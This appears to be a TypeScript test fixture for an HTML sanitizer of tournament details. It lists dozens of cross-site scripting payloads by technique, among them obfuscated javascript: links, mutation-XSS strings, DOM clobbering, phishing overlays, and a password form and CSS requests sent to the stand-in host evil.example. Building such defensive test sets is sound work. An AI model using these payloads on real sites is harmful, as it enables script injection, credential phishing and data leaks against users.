/**
 * Malicious HTML for a tournament's details, by technique. A script that runs sets `window.ran`; a
 * leak is a request to `evil.example`.
 */

const RUN = 'window.ran=1'
const EVIL = 'https://evil.example'
const coded = [...'window.ran=1'].map((character) => `&#${character.charCodeAt(0)};`).join('')

export const PAYLOADS: Record<string, Record<string, string>> = {
  script: {
    'inline script': `<script>${RUN}</script>`,
    'script of another origin': `<script src="${EVIL}/a.js"></script>`,
    'script in capitals, with a slash': `<SCRIPT/XSS>${RUN}</SCRIPT>`,
    'script within a script': `<scr<script>ipt>${RUN}</scr</script>ipt><script>${RUN}</script>`,
    'module script': `<script type=module>${RUN}</script>`,
    'script after a closed comment': `<!--><script>${RUN}</script>-->`,
    'script in a noscript attribute': `<noscript><p title="</noscript><script>${RUN}</script>"></noscript>`,
    'import through a link element': `<link rel=modulepreload href="${EVIL}/a.js"><link rel=prefetch href="${EVIL}/b">`,
  },
  handlers: {
    'an image that fails': `<img src=x onerror="${RUN}">`,
    'an image that fails, without quotes or spaces': `<img/src='x'/onerror=${RUN}>`,
    'an image with an encoded handler': `<img src=x onerror="${coded}">`,
    'details that open': `<details open ontoggle="${RUN}"><summary>More</summary></details>`,
    'an autofocus handler': `<input autofocus onfocus="${RUN}"><p tabindex=1 autofocus onfocus="${RUN}">Focus</p>`,
    'an animation that starts': `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="${RUN}">Moves</p>`,
    'a marquee that starts': `<marquee onstart="${RUN}">Runs</marquee>`,
    'a video whose source fails': `<video><source onerror="${RUN}"></video>`,
    'an audio that fails': `<audio src=x onerror="${RUN}" autoplay></audio>`,
    'a handler after a line break': `<img src=x\nonerror\n=\n"${RUN}">`,
    'a pointer handler': `<p onpointerover="${RUN}" onclick="${RUN}">Come near</p>`,
  },
  links: {
    'javascript:': `<a href="javascript:${RUN}">Press</a>`,
    'javascript: in mixed case after a space': `<a href=" jAvAsCrIpT:${RUN}">Press</a>`,
    'javascript: split by a tab and a line break': `<a href="java\tscr\nipt:${RUN}">Press</a>`,
    'javascript: as character references': `<a href="&#106;&#x61;vascript&colon;${RUN}">Press</a>`,
    'javascript: after a control character': `<a href="\u0001javascript:${RUN}">Press</a>`,
    'vbscript:': `<a href="vbscript:msgbox(1)">Press</a>`,
    'data: as a page': `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Press</a>`,
    'blob:, file: and a scheme of an app': `<a href="blob:${EVIL}/1">b</a><a href="file:///etc/passwd">f</a><a href="intent://x#Intent;end">i</a>`,
    'a map of areas': `<img src=x usemap="#m"><map name=m><area shape=default href="javascript:${RUN}"></map>`,
    'a link with ping': `<a href="https://club.example" ping="${EVIL}/ping" download target=_self rel=opener>Press</a>`,
  },
  frames: {
    'a frame of another origin': `<iframe src="${EVIL}"></iframe>`,
    'a frame with srcdoc': `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
    'a frame of javascript:': `<iframe src="javascript:parent.ran=1"></iframe>`,
    'an object and an embed': `<object data="${EVIL}/a.swf"></object><embed src="${EVIL}/b.swf">`,
    'a portal, and a fenced frame': `<portal src="${EVIL}"></portal><fencedframe src="${EVIL}"></fencedframe>`,
  },
  'foreign elements': {
    'SVG that loads': `<svg onload="${RUN}"><circle r=9 /></svg>`,
    'SVG script': `<svg><script>${RUN}</script></svg>`,
    'SVG that animates a link': `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>Press</text></a></svg>`,
    'SVG that uses another': `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"/></svg>`,
    'SVG with HTML in it': `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
    'MathML link': `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">Press</maction></math>`,
  },
  styles: {
    'an overlay over the page': `<div style="position:fixed;inset:0;z-index:99999;background:#fff">Log in again</div>`,
    'a style element': `<style>body{display:none}*{position:fixed;inset:0}</style>`,
    'a class of the product': `<div class="dialog__backdrop panel__root--tone_danger">Your payment failed</div>`,
    'url() that sends a request': `<p style="background:url(${EVIL}/a.png)">Seen</p><style>@import "${EVIL}/a.css";</style>`,
    'expression() and -moz-binding': `<p style="width:expression(${RUN});-moz-binding:url(${EVIL}/x.xml#x)">Old</p>`,
    'a background image of a table': `<table background="${EVIL}/t.png" width=99999><tr><td background="${EVIL}/d.png" height=99999>x</td></tr></table>`,
    'a dialog that is open': `<dialog open>Your session is over: <a href="https://evil.example">log in</a></dialog>`,
    'a popover': `<button popovertarget=p>Open</button><div id=p popover=manual>Over the page</div>`,
    'an image wider than any screen': `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width=99999 height=99999 style="position:absolute;top:0">`,
    'very long text': `<pre id=wide>${'x'.repeat(4000)}</pre><p onclick="">${'w'.repeat(4000)}</p>`,
  },
  'forms and the head': {
    'a form that asks for a password': `<form action="${EVIL}"><input name=password type=password><button>Log in</button></form>`,
    'a button that changes the form action': `<button form=x formaction="javascript:${RUN}">Press</button><form id=x></form>`,
    'a base': `<base href="${EVIL}/">`,
    'a refresh': `<meta http-equiv=refresh content="0;url=${EVIL}">`,
    'a policy': `<meta http-equiv=Content-Security-Policy content="default-src *"><title>Another</title>`,
    'an editor': `<p contenteditable accesskey=a tabindex=9 autofocus>Write</p>`,
  },
  mutation: {
    'a style in a form in MathML': `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
    'a style in SVG': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
    'a title in a noembed': `<noembed><img title="</noembed><img src onerror=${RUN}>"></noembed>`,
    'an annotation': `<math><annotation-xml encoding="text/html"><p><style><!--</style><img src onerror="${RUN}">--></p></annotation-xml></math>`,
    'a template': `<template><img src=x onerror="${RUN}"></template><template shadowrootmode=open><script>${RUN}</script></template>`,
    'a table out of place': `<table><svg><style><img src=x onerror="${RUN}"></style></svg><tr><td>${'<div>'.repeat(600)}<img src=x onerror="${RUN}">`,
    'plain text and a text area': `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea><xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
    'a doubly encoded entity': `&lt;img src=x onerror=&quot;${RUN}&quot;&gt;<p onclick=x>&amp;lt;script&amp;gt;</p>`,
  },
  clobbering: {
    'the root and main': `<div id=root></div><div id=main></div><a id=first-responses>{}</a>`,
    'properties of the document': `<img name=cookie><form name=body></form><img name=getElementById><a id=location href="https://evil.example">x</a>`,
    'a collection of a window': `<a id=config></a><a id=config name=url href="${EVIL}"></a>`,
    'attributes of a form': `<form><input name=attributes><input name=parentNode><input name=nodeName></form>`,
    'parts of a component': `<div data-part=content data-scope=dialog data-state=open role=alert aria-live=assertive aria-modal=true>Pay again</div>`,
  },
}

/** Harmless HTML that must be kept. */
export const HONEST = `<h2>The day</h2><p>Best of <strong>three</strong>, <em>to 21</em>.<br>Bring <u>white</u> shoes.</p>
<ul><li>Feather shuttles</li><li>H<sub>2</sub>O</li></ul><ol start="3"><li>Third</li></ol>
<blockquote>Report early.</blockquote><hr>
<table><caption>Prizes</caption><tbody><tr><th scope="row">First</th><td colspan="2">₹50,000</td></tr></tbody></table>
<p lang="hi" dir="ltr">स्वागत है</p><details><summary>Rules</summary><p>Fair play.</p></details>
<p><a href="https://club.example/rules?a=1&amp;b=2">The rules</a>, <a href="mailto:play@club.example">write</a>,
<a href="tel:+918012345678">call</a>, <a href="/terms">our terms</a>.</p>
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="The hall" width="40" height="30">`
